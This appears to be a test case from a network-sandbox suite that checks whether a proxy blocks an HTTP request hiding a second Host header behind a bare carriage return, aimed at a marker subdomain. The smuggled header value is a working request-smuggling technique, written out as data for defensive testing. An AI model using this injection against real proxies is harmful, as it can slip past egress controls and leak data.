# /// attack
# guarantee = "network"
# summary = "Hides a second Host behind a carriage return."
# reference = "RFC 9112, 2.2"
# success = "the server gets the request"
# stage = ["internet"]
# observe = ["stolen"]
# needs = ["small-internet"]
# policy = { network = { allow = ["example.org:80"] } }
# refusal = { default = "proxy control characters" }
# ///

from kit import exchange, judge, target, url

hidden = f"X-Other: a\rHost: {target('MARKER')}.example.net"
judge(
    exchange(
        "example.org",
        f"GET {url('example.org', '/')} HTTP/1.1\r\nHost: example.org\r\n{hidden}\r\nConnection: close\r\n\r\n".encode(),
    )
)
